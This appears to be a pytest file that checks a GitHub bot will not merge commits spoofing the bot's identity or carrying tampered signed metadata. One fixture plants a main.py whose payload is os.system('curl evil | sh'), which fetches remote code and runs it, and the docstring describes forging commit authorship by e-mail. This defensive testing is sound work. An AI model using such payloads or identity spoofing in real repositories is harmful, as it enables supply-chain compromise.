"""The bot's identity is proven, not claimed: promotion merges only the exact head the bot pushed, as the
signed meta block recorded it at push time, and only when the deployment has the signing key.

Against the fake GitHub REST server through PyGithub: a person with write access pushes a commit to the
bot's candidate branch whose author and committer carry the bot's own noreply e-mail (git lets anyone
write any identity; GitHub attributes commits by e-mail), so "every commit on the judged head is the
bot's" holds by the commit records. Before this check such a commit was merged into main, with or
without KBOT_META_KEY.
"""

from __future__ import annotations

import json

import pytest
from e2ekit import CHAMP_HASH, DEF, Env
from reportkit import good

from bot.forge.markers import REVIEW_MARKER, decode_meta, with_meta
from bot.forge.trusted_meta import META_KEY_ENV

KEY = "identity-test-key-" * 3


@pytest.fixture
def env(github_server, shared, tmp_path, repo, monkeypatch):
    monkeypatch.setenv(META_KEY_ENV, KEY)
    champion = {f"kernels/{DEF}/champion.json": json.dumps(
        {"definition": DEF, "solution": "champ_v1", "solution_hash": CHAMP_HASH, "pr": None, "history": []})}
    return Env(github_server, shared, tmp_path, repo, files=champion)


def open_candidate(env) -> int:
    issue = env.server.create_issue("go", author="alice")
    _, p = env.comment(issue, f"/optimize {DEF} --candidates 1")
    env.deliver("issue_comment", p)
    (pr,) = env.pulls()
    return pr


def winner(env, pr):
    meta = decode_meta(env.forge.get_pr(pr).body)
    return good(ratio=(1.20, 1.15, 1.25), solution=meta["solution"], solution_hash=meta["solution_hash"],
                baseline_hash=CHAMP_HASH, definition=DEF)


def review_body(env, pr):
    (review,) = [r for r in env.server.reviews_on(pr) if REVIEW_MARKER in r["body"]]
    return review["body"]


def pose_as_the_bot(env, pr, files=None):
    """alice pushes one commit whose author and committer are the bot's name and noreply e-mail."""
    branch = env.forge.get_pr(pr).head_branch
    folder = decode_meta(env.forge.get_pr(pr).body)["solution_path"].rsplit("/", 1)[0]
    env.server.push_commit(branch, files or {f"{folder}/main.py": "import os\nos.system('curl evil | sh')\n"},
                           author="alice", posing_as=env.server.bot_login, message="kbot: tune")
    return env.forge.get_pr(pr).head_sha


def test_an_honest_candidate_is_merged(env):
    pr = open_candidate(env)
    env.bench_done(pr, winner(env, pr))
    assert env.forge.get_pr(pr).merged and "Decision: PROMOTE" in review_body(env, pr)


def test_a_commit_posing_as_the_bot_is_never_merged(env):
    pr = open_candidate(env)
    spoofed = pose_as_the_bot(env, pr)
    # The commit records are fooled: GitHub attributes the commit to the bot by its e-mail.
    assert env.forge.branch_touched_by_humans(spoofed, "main") == []
    env.bench_done(pr, winner(env, pr))  # and the bench measured that head fairly
    assert not env.forge.get_pr(pr).merged
    body = review_body(env, pr)
    assert "Decision: REJECT" in body and "not the commit the bot pushed" in body
    # /promote by a maintainer takes the same gate
    env.server.set_permission("maint2", "maintain")
    c, p = env.comment(pr, "/promote", author="maint2")
    env.deliver("issue_comment", p)
    assert not env.forge.get_pr(pr).merged
    reply = [x for x in env.bot_comments(pr) if f"kbot:reply:{c['id']}" in x["body"]][0]["body"]
    assert "not the commit the bot pushed" in reply


def test_a_meta_block_edited_to_name_the_new_head_is_not_trusted(env):
    pr = open_candidate(env)
    spoofed = pose_as_the_bot(env, pr)
    meta = decode_meta(env.forge.get_pr(pr).body)
    # alice edits the PR body: the block now names her head (its old signature no longer verifies)
    env.server.pulls[pr]["body"] = with_meta("Candidate.", {**meta, "head_sha": spoofed})
    env.server.issues[pr]["body"] = env.server.pulls[pr]["body"]
    env.bench_done(pr, winner(env, pr))
    assert not env.forge.get_pr(pr).merged


def test_without_the_meta_key_the_bot_reviews_but_does_not_merge(env, monkeypatch):
    pr = open_candidate(env)
    monkeypatch.delenv(META_KEY_ENV)
    head = env.forge.get_pr(pr).head_sha
    env.bench_done(pr, winner(env, pr))
    assert not env.forge.get_pr(pr).merged
    body = review_body(env, pr)
    assert "KBOT\\_META\\_KEY is not configured" in body and "| PASSED |" in body  # reviewed, with the reason it was not merged
    assert "KBOT_META_KEY" in env.forge.combined_status(head).get("kbot/harness").description


def test_without_the_meta_key_a_spoofed_commit_is_not_merged_either(env, monkeypatch):
    pr = open_candidate(env)
    monkeypatch.delenv(META_KEY_ENV)
    pose_as_the_bot(env, pr)
    env.bench_done(pr, winner(env, pr))
    assert not env.forge.get_pr(pr).merged
